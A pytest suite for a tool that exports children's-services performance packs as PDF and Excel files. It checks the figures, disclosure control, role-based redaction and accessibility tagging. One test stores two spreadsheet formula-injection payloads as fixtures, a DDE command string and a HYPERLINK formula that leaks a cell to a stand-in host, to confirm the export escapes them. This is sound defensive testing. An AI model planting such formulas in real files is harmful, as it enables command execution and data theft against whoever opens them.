"""``python -m qa_core pack KIND``: each paper opened as a reader would (pypdf for the PDF,
openpyxl for the XLSX) and its figures checked against ``python -m qa_core report`` for the same
filters and role; page counts; disclosure control; roles; tagging for screen readers.

The month is the demo's latest (the store's own); the quarter is the demo's latest complete one,
taken from the scrutiny view, never typed here.
"""

from __future__ import annotations

import datetime as dt
import io
import json
import re
import shutil
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from pypdf import PdfReader

from qa_core import packs
from qa_core.__main__ import main
from qa_core.packs import audits as audits_pack
from qa_core.packs import board as board_pack
from qa_core.packs import clinic as clinic_pack
from qa_core.packs import scrutiny as scrutiny_pack
from qa_core.packs import team as team_pack
from qa_core.packs.common import PackOptions
from qa_core.roles import Viewer, resolve_viewer
from qa_core.rules import periods
from qa_core.rules.formatting import format_value
from qa_core.store import Store, queries
from qa_core.views import audit_grades, clinic, clinic_meeting, scrutiny

SERVICE = "assessment"
OTHER = "cp_court"
TEAM = "assessment_01"


# -- helpers ----------------------------------------------------------------------------------
def report(capsys, db: Path, *args: str) -> list[dict]:
    """``python -m qa_core report ... --format json``, run in-process: its rows."""
    capsys.readouterr()
    assert main(["report", *args, "--db", str(db), "--format", "json"]) == 0
    return json.loads(capsys.readouterr().out)


def pack(capsys, db: Path, out: Path, *args: str) -> Path:
    assert main(["pack", *args, "--db", str(db), "--out", str(out)]) == 0, capsys.readouterr().err
    assert out.exists()
    return out


def pdf_text(path: Path) -> tuple[PdfReader, str]:
    """The reader and the text of every page, white space collapsed, the running feet removed."""
    reader = PdfReader(path)
    pages = [page.extract_text() for page in reader.pages]
    text = " ".join(" ".join(pages).split())
    return reader, re.sub(r"Page \d+ of \d+", " ", text)


def sheet(path: Path, name: str) -> list[dict]:
    book = openpyxl.load_workbook(path, data_only=False)
    rows = list(book[name].iter_rows(values_only=True))
    return [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]


def same(cell: object, value: object) -> bool:
    """A sheet cell holds the report's value: numbers as numbers (to the report's 2 places)."""
    if value is None or value == "":
        return cell is None  # an empty text is an empty cell
    if isinstance(value, bool):
        return cell is value
    if isinstance(value, int | float):
        return isinstance(cell, int | float) and not isinstance(cell, bool) and abs(cell - value) < 0.006
    return cell == value


def assert_sheet_matches(rows: list[dict], records: list[dict], spec) -> None:
    assert len(rows) == len(records)
    for row, record in zip(rows, records, strict=True):
        for column in spec:
            if column.field in record:
                assert same(row[column.heading], record[column.field]), (
                    column,
                    row[column.heading],
                    record[column.field],
                )


def shown(value: float, unit: str) -> set[str]:
    """How a value from the report (rounded to 2 places) may print: allowing for that rounding."""
    return {format_value(value + d, unit) for d in (-0.005, 0.0, 0.005)}


@pytest.fixture(scope="module")
def latest(demo_db: Path) -> dict:
    with Store(demo_db, read_only=True) as store:
        return {
            "month": periods.month_key(queries.latest_month(store)),
            "quarter": scrutiny.complete_quarters(store)[-1],
        }


# -- clinic -----------------------------------------------------------------------------------
def test_clinic_pdf_and_xlsx_hold_the_clinic_report(capsys, demo_db, tmp_path, latest):
    month = latest["month"]
    rows = report(capsys, demo_db, "clinic", "--service", SERVICE, "--month", month)
    pdf = pack(capsys, demo_db, tmp_path / "clinic.pdf", "clinic", "--service", SERVICE, "--month", month)
    reader, text = pdf_text(pdf)
    assert 1 < len(reader.pages) <= 8
    assert "Performance clinic pack: Assessment" in text and periods.month_label(periods.parse_month(month)) in text
    assert f"from data complete to {periods.month_label(periods.parse_month(month))}" in text
    for row in rows:
        assert row["name"] in text
        assert any(v in text for v in shown(row["value"], row["unit"])), row
        if row["unit"] == "%":
            assert f"{row['numerator']:,.0f} of {row['denominator']:,.0f}" in text
        assert (row["rag"] or "No target") in text
    red_or_concern = [r for r in rows if r["rag"] == "Red" or r["special_cause"] == "concern"]
    assert red_or_concern and len(reader.pages[0].images) + sum(len(p.images) for p in reader.pages[1:]) == len(
        red_or_concern
    )  # one SPC chart for each measure that is Red or shows concern
    assert "Meeting record" in text and "No meeting recorded" in text
    assert "Figures are not disclosure-controlled: do not publish." in text

    xlsx = pack(capsys, demo_db, tmp_path / "clinic.xlsx", "clinic", "--service", SERVICE, "--month", month)
    assert_sheet_matches(sheet(xlsx, "Measures"), rows, clinic_pack.MEASURE_COLUMNS)
    audits = report(capsys, demo_db, "audits", "--service", SERVICE, "--month", month)
    areas = report(capsys, demo_db, "audits", "--service", SERVICE, "--month", month, "--by", "area")
    assert_sheet_matches(sheet(xlsx, "Audits"), audits + areas, clinic_pack.AUDIT_COLUMNS)
    book = openpyxl.load_workbook(xlsx)
    assert book.sheetnames[0] == "Notes"
    notes = [r[0] for r in book["Notes"].iter_rows(values_only=True)]
    assert "Columns" in notes and "Measures: Numerator" in notes
    produced = [r[1] for r in book["Notes"].iter_rows(values_only=True) if r[0] == "Produced"]
    assert produced and produced[0].endswith(f"from data complete to {periods.month_label(periods.parse_month(month))}")


def test_the_clinic_pack_holds_the_meeting_record_and_its_actions(capsys, demo_db, tmp_path, latest):
    """Issue 15: the pack printed "No meeting recorded" whatever the store held. A meeting recorded
    for the latest month, with people, a decision and two actions, is in the PDF and the workbook; a
    head of another service gets the counts, not the names (names found nowhere else in the store)."""
    db = tmp_path / "qa.duckdb"
    shutil.copy(demo_db, db)
    month = periods.parse_month(latest["month"])
    held = month.replace(day=1) + dt.timedelta(days=34)  # early the next month
    with Store(db) as store:
        clinic_meeting.record_meeting(
            store,
            {
                "service_id": SERVICE,
                "clinic_month": month,
                "meeting_date": held,
                "chair": "Ottoline Vantwest",
                "attendees": ["Perpetua Gallowglass", "Quentin Harrowby"],
                "apologies": ["Rosamund Iddesleigh"],
                "decisions": ["Late assessments reviewed weekly until the figure recovers."],
            },
            [
                {"description": "Review every assessment past 45 working days", "owner": "Perpetua Gallowglass"},
                {"description": "Agency cover for the south team", "owner": "Quentin Harrowby"},
            ],
            today=dt.date(2099, 1, 1),
        )
        agreed = clinic_meeting.meeting_actions(store, SERVICE, month)
        first = int((agreed["agreed"] == "this").sum()) - 1  # the new actions are numbered after the demo's
    label = periods.month_label(month)
    day = pd.Timestamp(held)
    ad = pack(capsys, db, tmp_path / "ad.pdf", "clinic", "--service", SERVICE, "--month", latest["month"])
    _, text = pdf_text(ad)
    assert "No meeting recorded" not in text
    assert f"The {label} clinic was held on {day.day} {day:%B %Y}, chaired by Ottoline Vantwest." in text
    assert "Attended: Perpetua Gallowglass, Quentin Harrowby." in text and "Apologies: Rosamund Iddesleigh." in text
    assert "Decision 1: Late assessments reviewed weekly until the figure recovers." in text
    assert f"{label} clinic, action {first}" in text and f"{label} clinic, action {first + 1}" in text
    assert not re.search(r"CA-[a-z_]+-\d{6}-\d+", text)
    xlsx = pack(capsys, db, tmp_path / "ad.xlsx", "clinic", "--service", SERVICE, "--month", latest["month"])
    rows = sheet(xlsx, "Meeting actions")[first - 1 :]  # the clinic's actions: the demo's, then the meeting's
    assert len(sheet(xlsx, "Meeting actions")) == first + 1
    assert [r["description"] for r in rows] == [
        "Review every assessment past 45 working days",
        "Agency cover for the south team",
    ]
    due = (day + pd.Timedelta(days=clinic_meeting.DUE_AFTER_DAYS)).date()
    assert {pd.Timestamp(r["due_date"]).date() for r in rows} == {due}  # four weeks after the meeting
    hos = pack(
        capsys, db, tmp_path / "hos.pdf", "clinic", "--service", SERVICE, "--month", latest["month"],
        "--role", "head_of_service", "--scope", OTHER,
    )  # fmt: skip
    _, other = pdf_text(hos)
    assert "2 people attended and 1 sent apologies" in other
    for name in ("Ottoline Vantwest", "Perpetua Gallowglass", "Quentin Harrowby", "Rosamund Iddesleigh"):
        assert name not in other
    assert "Decision 1: Late assessments reviewed weekly" in other  # decisions are not names


def test_a_head_of_service_gets_no_other_service_case_detail(capsys, demo_db, tmp_path, latest):
    """A head of service of another service may open the clinic, but its pack names no case, no
    auditor and no action owner of this service; the assistant director's pack does (so the check
    can fail). The action's owner is a name found nowhere else in the store."""
    db = tmp_path / "qa.duckdb"
    shutil.copy(demo_db, db)
    month = periods.parse_month(latest["month"])
    owner = "Zebedee Quillfeather"
    with Store(db) as store:
        clinic.record_action(
            store,
            {
                "service_id": SERVICE,
                "clinic_month": month,
                "owner": owner,
                "description": "Audit the unallocated cases",
                "due_date": month,
            },
        )
        cases = audit_grades.escalations_due(store, month, SERVICE)
    assert not cases.empty
    ad = pack(capsys, db, tmp_path / "ad.pdf", "clinic", "--service", SERVICE, "--month", latest["month"])
    hos = pack(
        capsys,
        db,
        tmp_path / "hos.pdf",
        "clinic",
        "--service",
        SERVICE,
        "--month",
        latest["month"],
        "--role",
        "head_of_service",
        "--scope",
        OTHER,
    )
    _, ad_text = pdf_text(ad)
    _, hos_text = pdf_text(hos)
    assert all(ref in ad_text for ref in cases["case_ref"]) and owner in ad_text
    assert "Audit the unallocated cases" in hos_text  # the action itself is the service's, not a case's
    assert owner not in hos_text
    assert not any(ref in hos_text for ref in cases["case_ref"])
    assert not any(auditor in hos_text for auditor in cases["auditor"])
    xlsx = pack(
        capsys,
        db,
        tmp_path / "hos.xlsx",
        "clinic",
        "--service",
        SERVICE,
        "--month",
        latest["month"],
        "--role",
        "head_of_service",
        "--scope",
        OTHER,
    )
    book = openpyxl.load_workbook(xlsx)
    assert "Inadequate audits" not in book.sheetnames
    assert "owner" not in [c.value for c in book["Actions"][1]]
    cells = {str(v) for ws in book for r in ws.iter_rows(values_only=True) for v in r if v is not None}
    assert not cells & set(cases["case_ref"]) and owner not in cells
    # Their own service's pack does list its cases.
    with Store(demo_db, read_only=True) as store:
        own = audit_grades.escalations_due(store, month, OTHER)
    mine = pack(
        capsys,
        demo_db,
        tmp_path / "own.pdf",
        "clinic",
        "--service",
        OTHER,
        "--month",
        latest["month"],
        "--role",
        "head_of_service",
        "--scope",
        OTHER,
    )
    assert not own.empty and all(ref in pdf_text(mine)[1] for ref in own["case_ref"])


# -- scrutiny ---------------------------------------------------------------------------------
def test_scrutiny_card_matches_the_published_report_and_fits_six_pages(capsys, demo_db, tmp_path, latest):
    quarter = latest["quarter"]
    rows = report(capsys, demo_db, "scrutiny", "--quarter", quarter, "--public")
    pdf = pack(capsys, demo_db, tmp_path / "card.pdf", "scrutiny", "--quarter", quarter)
    reader, text = pdf_text(pdf)
    assert len(reader.pages) <= 6
    assert rows[0]["quarter_label"] in text
    for row in rows:
        assert " ".join(row["headline"].split()) in text, row["headline"]
    # The symbols are explained at the end, not the start.
    assert text.rfind("What the symbols and words mean") > text.find(rows[-1]["headline"][:40])
    assert "Open Government Licence" in text
    xlsx = pack(capsys, demo_db, tmp_path / "card.xlsx", "scrutiny", "--quarter", quarter)
    assert_sheet_matches(sheet(xlsx, "Report card"), rows, scrutiny_pack.REPORT_COLUMNS)


def test_the_scrutiny_pack_never_holds_a_count_of_1_to_5(capsys, demo_db, tmp_path, latest):
    quarter = latest["quarter"]
    with Store(demo_db, read_only=True) as store:
        _, full = scrutiny.scrutiny_card(store, quarter, public=False)
    small = full[full["numerator"].between(1, 5) | full["denominator"].between(1, 5)]
    assert not small.empty  # the demo has small counts, so suppression has work to do
    pdf = pack(
        capsys, demo_db, tmp_path / "card.pdf", "scrutiny", "--quarter", quarter, "--role", "assistant_director"
    )  # whoever asks: disclosure control is always on
    _, text = pdf_text(pdf)
    counts = re.findall(r"\b([\d,]+|c|u) of ([\d,]+|c|u)\b", text)
    assert counts
    for numerator, denominator in counts:
        for figure in (numerator, denominator):
            assert not (figure.isdigit() and 1 <= int(figure) <= 5), (numerator, denominator)
    xlsx = pack(capsys, demo_db, tmp_path / "card.xlsx", "scrutiny", "--quarter", quarter)
    for name in ("Report card", "Trend"):
        for row in sheet(xlsx, name):
            for key, value in row.items():
                if key and ("umerator" in key or "enominator" in key) and isinstance(value, int | float):
                    assert not 1 <= value <= 5, (name, key, value)
    trend = sheet(xlsx, "Trend")
    hidden = {(r["Code"], r["Quarter"]) for r in trend if r["Numerator"] == "c"}
    assert {(c, q) for c, q in zip(small["code"], small["quarter"], strict=True)} <= hidden


# -- board ------------------------------------------------------------------------------------
def test_board_pack_holds_the_rag_report_and_every_exception(capsys, demo_db, tmp_path, latest):
    month = latest["month"]
    rows = report(capsys, demo_db, "rag", "--month", month)
    pdf = pack(capsys, demo_db, tmp_path / "board.pdf", "board", "--month", month)
    _, text = pdf_text(pdf)
    exceptions = [r for r in rows if r["exception"]]
    assert exceptions and f"Exceptions ({len(exceptions)})" in text
    for row in rows:
        assert row["area"] in text and row["current_rag"] in text
    with Store(demo_db, read_only=True) as store:
        for row in exceptions:
            frame = board_pack.improvement_board.area_narrative(store, row["area_id"], periods.parse_month(month))
            for item in frame.itertuples():
                assert " ".join(item.text.split()).rstrip(".") in text
                if isinstance(item.evidence, str) and item.evidence:
                    assert f"Evidence: {' '.join(item.evidence.split())}" in text
    xlsx = pack(capsys, demo_db, tmp_path / "board.xlsx", "board", "--month", month)
    assert_sheet_matches(sheet(xlsx, "Board"), rows, [c for c in board_pack.BOARD_COLUMNS if c.field in rows[0]])


# -- audits -----------------------------------------------------------------------------------
def test_audit_report_holds_grades_by_service_and_area(capsys, demo_db, tmp_path, latest):
    month = latest["month"]
    council = report(capsys, demo_db, "audits", "--month", month)
    services = report(capsys, demo_db, "audits", "--month", month, "--by", "service")
    areas = report(capsys, demo_db, "audits", "--month", month, "--by", "area")
    pdf = pack(capsys, demo_db, tmp_path / "audits.pdf", "audits", "--month", month)
    _, text = pdf_text(pdf)
    row = council[0]
    assert f"{row['inadequate']} of {row['total']} audits Inadequate" in text
    assert any(f"{v} (95% interval" in text for v in shown(row["pct_inadequate"], "%"))
    for group in services + areas:
        assert group["group"] in text and group["assessment"] in text
    assert "Completion against expectation" in text and "Escalations due" in text and "Moderation" in text
    xlsx = pack(capsys, demo_db, tmp_path / "audits.xlsx", "audits", "--month", month)
    assert_sheet_matches(sheet(xlsx, "By service"), council + services, clinic_pack.AUDIT_COLUMNS)
    assert_sheet_matches(sheet(xlsx, "By area"), areas, clinic_pack.AUDIT_COLUMNS)
    assert audits_pack.CHART_MONTHS == 24


def test_a_scrutiny_member_cannot_have_the_audit_report(capsys, demo_db, tmp_path):
    assert main(["pack", "audits", "--db", str(demo_db), "--out", str(tmp_path / "a.pdf"), "--role", "scrutiny"]) == 1
    assert "cannot see the audits view" in capsys.readouterr().err
    assert not (tmp_path / "a.pdf").exists()


# -- team -------------------------------------------------------------------------------------
@pytest.mark.parametrize("board", [False, True], ids=["full", "notice-board"])
def test_team_profile_is_one_page_with_the_team_report(capsys, demo_db, tmp_path, latest, board):
    month = latest["month"]
    public = ["--public"] if board else []
    rows = report(capsys, demo_db, "team", "--team", TEAM, "--month", month, *public)
    extra = ["--notice-board"] if board else []
    pdf = pack(capsys, demo_db, tmp_path / "team.pdf", "team", "--team", TEAM, "--month", month, *extra)
    reader, text = pdf_text(pdf)
    assert len(reader.pages) == 1
    measures = [r for r in rows if r["code"]]
    for row in measures:
        if isinstance(row["value"], str):
            continue
        assert any(v in text for v in shown(row["value"], row["unit"])), row
    withheld = sum(isinstance(r["value"], str) for r in measures)
    if board:
        assert withheld and f"{withheld} of {len(measures)} measures are withheld (c)" in text
        assert f"the other {len(measures) - withheld} are shown" in text
    xlsx = pack(capsys, demo_db, tmp_path / "team.xlsx", "team", "--team", TEAM, "--month", month, *extra)
    assert_sheet_matches(sheet(xlsx, "Measures"), measures, team_pack.TEAM_MEASURE_COLUMNS)
    assert_sheet_matches(sheet(xlsx, "Audits"), rows[:1], team_pack.TEAM_AUDIT_COLUMNS)


def test_every_team_profile_fits_one_page(demo_db, latest):
    month = periods.parse_month(latest["month"])
    with Store(demo_db, read_only=True) as store:
        for team_id in queries.teams(store)["team_id"]:
            for board in (False, True):
                built = packs.build_pack(
                    store, "team", PackOptions(month=month, team=team_id, notice_board=board), Viewer()
                )
                assert len(PdfReader(io.BytesIO(packs.pack_bytes(built, "pdf"))).pages) == 1, (team_id, board)


# -- the file itself ----------------------------------------------------------------------------
def test_pdf_is_tagged_for_screen_readers(capsys, demo_db, tmp_path, latest):
    pdf = pack(capsys, demo_db, tmp_path / "clinic.pdf", "clinic", "--service", SERVICE, "--month", latest["month"])
    reader = PdfReader(pdf)
    root = reader.trailer["/Root"]
    assert root["/Lang"] == "en-GB"
    assert bool(root["/MarkInfo"]["/Marked"])
    assert reader.metadata.title.startswith("Performance clinic pack: Assessment")
    kinds, alts = [], []

    def walk(elem) -> None:
        elem = elem.get_object()
        kinds.append(str(elem.get("/S")))
        if "/Alt" in elem:
            alts.append(str(elem["/Alt"]))
        for kid in elem.get("/K", []) if isinstance(elem.get("/K"), list) else []:
            if hasattr(kid, "get_object") and isinstance(kid.get_object(), dict):
                walk(kid)

    walk(
        root["/StructTreeRoot"]["/K"][0]
        if isinstance(root["/StructTreeRoot"]["/K"], list)
        else root["/StructTreeRoot"]["/K"]
    )
    for tag in ("/Document", "/H1", "/H2", "/H3", "/P", "/Table", "/TR", "/TH", "/TD", "/Figure"):
        assert tag in kinds, tag
    assert any(a.startswith("SPC chart of") for a in alts)
    outline = [item.title for item in reader.outline if not isinstance(item, list)]
    assert outline and outline[0].startswith("Performance clinic pack")


def test_xlsx_text_never_opens_as_a_formula(capsys, demo_db, tmp_path, latest):
    db = tmp_path / "qa.duckdb"
    shutil.copy(demo_db, db)
    month = periods.parse_month(latest["month"])
    with Store(db) as store:
        clinic.record_action(
            store,
            {
                "service_id": SERVICE,
                "clinic_month": month,
                "owner": "=cmd|' /C calc'!A0",
                "description": '=HYPERLINK("http://x.example/?leak="&A1, "Click")',
                "due_date": month,
            },
        )
    xlsx = pack(capsys, db, tmp_path / "clinic.xlsx", "clinic", "--service", SERVICE, "--month", latest["month"])
    actions = sheet(xlsx, "Actions")
    texts = [r["description"] for r in actions] + [r["owner"] for r in actions]
    assert '\'=HYPERLINK("http://x.example/?leak="&A1, "Click")' in texts
    assert not any(isinstance(t, str) and t.startswith("=") for t in texts)
    book = openpyxl.load_workbook(xlsx)
    assert not any(c.data_type == "f" for ws in book for r in ws.iter_rows() for c in r)


def test_the_extension_chooses_the_format_and_anything_else_is_refused(capsys, demo_db, tmp_path):
    assert main(["pack", "board", "--db", str(demo_db), "--out", str(tmp_path / "b.docx")]) == 1
    assert "must end in .pdf or .xlsx" in capsys.readouterr().err
    assert main(["pack", "board", "--db", str(demo_db), "--out", str(tmp_path / "b.XLSX")]) == 0
    assert (tmp_path / "b.XLSX").read_bytes()[:2] == b"PK"


def test_public_is_refused_for_papers_never_published(capsys, demo_db, tmp_path):
    for kind, extra in (("clinic", ["--service", SERVICE]), ("board", []), ("audits", [])):
        assert main(["pack", kind, "--db", str(demo_db), "--out", str(tmp_path / "x.pdf"), "--public", *extra]) == 1
        assert "never published" in capsys.readouterr().err


def test_progress_is_reported_while_a_pack_is_built(demo_db, latest):
    seen: list[tuple[float, str]] = []
    with Store(demo_db, read_only=True) as store:
        viewer = resolve_viewer(store, "assistant_director")
        packs.build_pack(
            store,
            "clinic",
            PackOptions(month=periods.parse_month(latest["month"]), service=SERVICE),
            viewer,
            progress=lambda f, m: seen.append((f, m)),
        )
    fractions = [f for f, _ in seen]
    assert fractions == sorted(fractions) and fractions[-1] == 1.0 and len(seen) >= 4
    assert any(m.startswith("Drawing the chart for") for _, m in seen)


def test_the_same_pack_gives_the_same_workbook(demo_db, latest):
    month = periods.parse_month(latest["month"])
    with Store(demo_db, read_only=True) as store:
        first, second = (
            packs.pack_bytes(packs.build_pack(store, "board", PackOptions(month=month), Viewer()), "xlsx")
            for _ in range(2)
        )
    assert first == second
    frame = pd.read_excel(io.BytesIO(first), sheet_name="Board")
    assert frame["Priorities"].dtype.kind == "i"  # real numbers, not text


def test_a_partial_month_leaves_the_production_line_at_the_complete_month(capsys, demo_db, tmp_path, latest):
    """One team's first audits of a new month (issue 13's case) do not make the new month "complete":
    a pack says it is produced from data complete to the last complete month, as the pages do."""
    db = tmp_path / "qa.duckdb"
    shutil.copy(demo_db, db)
    month = periods.parse_month(latest["month"])
    new = periods.next_month(month)
    with Store(db) as store:
        store.execute(
            "INSERT INTO audit (audit_id, audit_date, tier, team_id, service_id, auditor, auditor_role, overall_grade) "
            "SELECT 'NEW-' || i, $d + i::INTEGER, 'tier1', 'assessment_01', 'assessment', 'Jodie Fenwick', "
            "'team_manager', 2 FROM range(4) t(i)", {"d": new})
        assert queries.latest_month(store) == new
    xlsx = pack(capsys, db, tmp_path / "clinic.xlsx", "clinic", "--service", SERVICE, "--month", latest["month"])
    produced = [r[1] for r in openpyxl.load_workbook(xlsx)["Notes"].iter_rows(values_only=True) if r[0] == "Produced"]
    assert produced and produced[0].endswith(f"from data complete to {periods.month_label(month)}")


def test_the_packs_spc_chart_has_the_pages_limits(demo_db):
    """The demo records a process change for CWD_REVIEWS in Children with Disabilities (September 2025):
    the pack's chart is judged on the limits the page draws (fixed baseline, recalculated from the change),
    not on limits from every month, which would call the months before the change a concern."""
    from qa_core.rules.spc import improvement_for, xmr
    from qa_core.views.baselines import change_months

    service, code = "disabilities", "CWD_REVIEWS"
    with Store(demo_db, read_only=True) as store:
        month = queries.latest_month(store)
        row = clinic.clinic_measures(store, service, month).set_index("code").loc[code].copy()
        row["code"] = code
        chart = clinic_pack._spc_block(store, row, service, "Children with Disabilities", month)
        series = queries.indicator_series(store, code, "service", service)
        changes = change_months(store, code, service)
    assert changes == [pd.Timestamp("2025-09-01").date()]
    page = clinic.measure_points(series, row["polarity"], row["target"], changes)
    concerns = [f"{p:%b %Y}" for p, c in zip(page["period"], page["special_cause"], strict=True) if c == "concern"]
    every_month = xmr(series["value"].tolist(), improvement=improvement_for(row["polarity"]), target=row["target"])
    assert any(p["special_cause"] == "concern" for p in every_month)  # the old rule would say so
    said = f"Special-cause concern in: {', '.join(concerns)}." if concerns else "No special-cause concern."
    assert said in chart.alt
